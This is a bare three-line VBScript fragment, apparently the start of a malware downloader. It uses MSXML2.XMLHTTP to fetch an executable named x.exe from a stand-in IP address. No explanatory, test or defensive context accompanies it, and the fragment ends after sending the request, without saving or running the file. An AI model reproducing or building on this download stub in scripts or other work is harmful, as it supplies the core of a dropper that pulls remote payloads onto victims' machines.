Set o=CreateObject("MSXML2.XMLHTTP")
o.Open "GET","http://192.0.2.7/x.exe",False
o.Send
